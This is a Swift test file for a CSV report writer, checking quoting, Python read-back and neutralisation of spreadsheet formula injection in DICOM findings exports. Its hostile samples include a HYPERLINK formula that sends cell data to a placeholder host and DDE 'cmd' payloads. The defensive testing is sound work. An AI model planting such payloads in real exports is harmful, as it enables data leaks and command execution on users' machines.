import Foundation
import Testing
import TestSupport
@testable import Reports

@Suite struct CSVTests {
    @Test func rfc4180Quoting() {
        var t = CSVTable(header: ["a", "b"])
        t.append(["plain", "with,comma"])
        t.append(["say \"hi\"", "two\r\nlines"])
        t.append(["Ünïcødé 名前", ""])
        let text = String(decoding: t.data, as: UTF8.self)
        #expect(text == "a,b\r\nplain,\"with,comma\"\r\n\"say \"\"hi\"\"\",\"two\r\nlines\"\r\nÜnïcødé 名前,\r\n")
    }

    /// Python's csv module (an independent RFC 4180 reader) reads back exactly what we wrote.
    @Test func pythonReadsItBack() throws {
        var t = CSVTable(header: ["x", "y"])
        let rows = [["a,b", "c\"d"], ["e\nf", "ü"], ["", "x=1+1"]]
        for r in rows { t.append(r) }
        let dir = try TemporaryDirectory("csv")
        defer { dir.remove() }
        try t.data.write(to: URL(fileURLWithPath: dir.file("t.csv")))
        let r = try runPython("""
            import csv, json, sys
            with open(sys.argv[1], newline='', encoding='utf-8') as f: print(json.dumps(list(csv.reader(f))))
            """, [dir.file("t.csv")])
        #expect(r.status == 0, "\(r.stderr)")
        let parsed = try JSONDecoder().decode([[String]].self, from: Data(r.stdout.utf8))
        #expect(parsed == [["x", "y"]] + rows)
    }

    /// Formula injection (OWASP "CSV Injection"): a value a spreadsheet would run starts with
    /// `'` and is quoted; Python's csv reads the value back with the quote in front.
    @Test func formulaCellsAreWrittenAsText() throws {
        let hostile = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\u{0}=1"]
        for value in hostile {
            #expect(CSVTable.field(value) == "\"'" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\"", "\(value.debugDescription)")
        }
        // Numbers stay numbers; ordinary text and text with the characters later is left alone.
        for kept in ["-0.5", "-12", "0.9731", "12", "CT-1", "a=b", "x@site.example", ""] { #expect(CSVTable.field(kept) == kept) }
        for notANumber in ["-", "-1.", "-.5", "-1.2.3", "-1e5", "--1"] { #expect(CSVTable.field(notANumber).hasPrefix("\"'-")) }
        #expect(CSVTable.field("a;=1") == "\"a;=1\"", "a ';' list separator cannot start a cell mid-value")

        var t = CSVTable(header: ["value", "number"])
        for v in hostile { t.append([v, "-0.25"]) }
        let dir = try TemporaryDirectory("csv-formula")
        defer { dir.remove() }
        try t.data.write(to: URL(fileURLWithPath: dir.file("t.csv")))
        let r = try runPython("""
            import csv, json, sys
            with open(sys.argv[1], newline='', encoding='utf-8') as f: print(json.dumps(list(csv.reader(f))))
            """, [dir.file("t.csv")])
        #expect(r.status == 0, "\(r.stderr)")
        let parsed = try JSONDecoder().decode([[String]].self, from: Data(r.stdout.utf8))
        #expect(parsed == [["value", "number"]] + hostile.map { ["'" + $0, "-0.25"] })
    }

    /// The whole findings CSV: DICOM values are escaped, the numeric columns are untouched, and
    /// the dictionary says what a leading `'` means.
    @Test func findingsCSVEscapesDroppedValues() throws {
        let study = StudyReport(
            studyKey: "study-1", site: "=cmd|'/C calc'!A0", patientID: "@PAT", issuerOfPatientID: nil, accessionNumber: "-1+1",
            studyInstanceUID: "1.2.3", studyDate: "20250110", modality: "+CT", series: [], instances: 3, files: ["a.dcm"],
            problems: ["=gap"], orders: [], findings: [Finding(label: "Nodule", probability: 0.75, urgency: .urgent)],
            modelName: "demo", modelVersion: "1.0", reportFiles: [], analysis: Analysis(analysedImages: 3))
        let batch = BatchReport(pipeline: "p", batchID: "b-1", run: 2, supersedes: nil, sourceName: "drop", generatedAt: "2025-01-10T00:00:00Z",
                                toolVersion: "0", modelName: "demo", modelVersion: "1.0", studies: [study],
                                quarantine: [QuarantineEntry(file: "=x.dcm", stage: "validate", reason: "not DICOM")], unmatchedOrders: [], fileCount: 2)
        let files = try CSVRenderer().render(batch: batch)
        let dir = try TemporaryDirectory("csv-findings")
        defer { dir.remove() }
        for f in files { try f.data.write(to: URL(fileURLWithPath: dir.file(f.name))) }
        let r = try runPython("""
            import csv, json, sys
            out = {}
            for name in sys.argv[2:]:
                with open(sys.argv[1] + '/' + name, newline='', encoding='utf-8') as f: out[name] = list(csv.DictReader(f))
            print(json.dumps(out))
            """, [dir.path, "findings.csv", "quarantine.csv", "findings.dictionary.csv"])
        #expect(r.status == 0, "\(r.stderr)")
        let tables = try JSONDecoder().decode([String: [[String: String]]].self, from: Data(r.stdout.utf8))
        let row = try #require(tables["findings.csv"]?.first)
        #expect(row["site"] == "'=cmd|'/C calc'!A0" && row["patient_id"] == "'@PAT" && row["accession_number"] == "'-1+1")
        #expect(row["modality"] == "'+CT" && row["problems"] == "'=gap")
        #expect(row["max_probability"] == "0.7500" && row["instances"] == "3" && row["series"] == "0" && row["run"] == "2")
        #expect(tables["quarantine.csv"]?.first?["file"] == "'=x.dcm")
        let dictionary = tables["findings.dictionary.csv"] ?? []
        #expect(dictionary.count == CSVRenderer.columns.count)
        #expect(dictionary.allSatisfy { $0["description"]?.contains("leading ' so spreadsheets show it as text") == true })
    }
}
